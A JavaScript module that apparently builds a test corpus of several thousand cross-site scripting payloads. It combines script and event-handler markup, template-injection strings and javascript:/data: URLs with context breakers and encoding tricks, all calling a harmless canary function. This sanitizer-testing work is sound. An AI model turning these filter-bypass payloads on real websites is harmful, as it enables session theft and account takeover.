/** Texts that would run a script, or make an element, wherever a page took one for more than a text. */

const distinct = (texts) => [...new Set(texts)];

/** Ways to call `executed(…)`, which counts. */
const CALLS = [
  'executed(1)',
  'top.executed(1)',
  'parent[`executed`](1)',
  "window['exec'+'uted'](1)",
  'setTimeout(`executed(1)`)',
  '(0,self.executed)(1)',
];

const MARKUP = (call) => [
  `<script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img src onerror="${call}">`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<audio src onerror="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<select autofocus onfocus="${call}">`,
  `<textarea autofocus onfocus="${call}">`,
  `<button popovertarget=x onclick="${call}">press</button>`,
  `<a href="javascript:${call}">press</a>`,
  `<form action="javascript:${call}"><button>press</button></form>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<link rel=stylesheet href="data:text/css,*{}" onload="${call}">`,
  `<style onload="${call}">*{color:red}</style>`,
  `<marquee onstart="${call}">`,
  `<template shadowrootmode=open><img src onerror="${call}"></template>`,
  `<x-element tabindex=1 autofocus onfocus="${call}">`,
  `<!--lit-part--><img src onerror="${call}"><!--/lit-part-->`,
  `<?lit$0$><img src onerror="${call}">`,
  `\${${call}}`,
  `{{constructor.constructor("${call}")()}}`,
  `<fumin-station-card station="x" onfumin-load="${call}"></fumin-station-card>`,
  `<foreignObject><body onload="${call}"></body></foreignObject>`,
];

/** What stands around the markup: ends of contexts, encodings, disguises. */
const WRAPPINGS = [
  (text) => text,
  (text) => `"> ${text}`,
  (text) => `'> ${text}`,
  (text) => `" onmouseover=${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</style>${text}`,
  (text) => `</script>${text}`,
  (text) => `--> ${text}`,
  (text) => `]]> ${text}`,
  (text) => `</text></svg>${text}`,
  (text) => `\`}${text}`,
  (text) => text.replace(/<(\w)/g, '<\t$1').replace(/ (\w+=)/g, '/$1'),
  (text) => text.toUpperCase().replace(/EXECUTED/g, 'executed'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&#x3c;').replace(/>/g, '&#62'),
  (text) => text.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => `\u202e${text}\u0000\ufeff`,
];

/** Every text payload once: some 3,500. */
export const TEXT_PAYLOADS = distinct(
  CALLS.flatMap((call) => MARKUP(call).flatMap((text) => WRAPPINGS.map((wrap) => wrap(text)))),
);

const URLS = (call) => [
  `javascript:${call}`,
  `javascript:${call}//https://example.org/`,
  `javascript://example.org/%0a${call}`,
  `javascript:/*https://*/${call}`,
  `data:text/html,<script>opener.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `data:application/javascript,${call}`,
  `vbscript:${call}`,
  `blob:null/${call}`,
  `filesystem:https://example.org/${call}`,
  `view-source:javascript:${call}`,
  `about:blank#<script>${call}</script>`,
  `feed:javascript:${call}`,
  `jar:javascript:${call}`,
  `livescript:${call}`,
  `mocha:${call}`,
  `https:javascript:${call}`,
  `intent:#Intent;scheme=javascript;S.url=${call};end`,
  `weixin:javascript:${call}`,
];

const URL_WRAPPINGS = [
  (url) => url,
  (url) => ` ${url}`,
  (url) => `\u0001${url}`,
  (url) => `\u0000${url}`,
  (url) => `\u00a0\ufeff${url}`,
  (url) => url.replace(/^(...)/, '$1\t'),
  (url) => url.replace(/^(...)/, '$1\n'),
  (url) => url.replace(/^(...)/, '$1\r\n'),
  (url) => url.toUpperCase(),
  (url) => url.replace(/^./, (first) => first.toUpperCase()),
  (url) => url.replace(':', '&colon;'),
  (url) => url.replace(':', '%3A'),
  (url) => url.replace(/^./, (first) => `&#${first.charCodeAt(0)};`),
  (url) => url.replace(/^./, (first) => `%${first.charCodeAt(0).toString(16)}`),
  (url) => url.replace(':', '：'),
  (url) => `\u200b${url}`,
  (url) => `//${url}`,
  (url) => `\\\\${url}`,
  (url) => `url(${url})`,
  (url) => `"${url}"`,
];

/** Every URL payload once: some 2,300. */
export const URL_PAYLOADS = distinct(
  CALLS.flatMap((call) => URLS(call).flatMap((url) => URL_WRAPPINGS.map((wrap) => wrap(url)))),
);
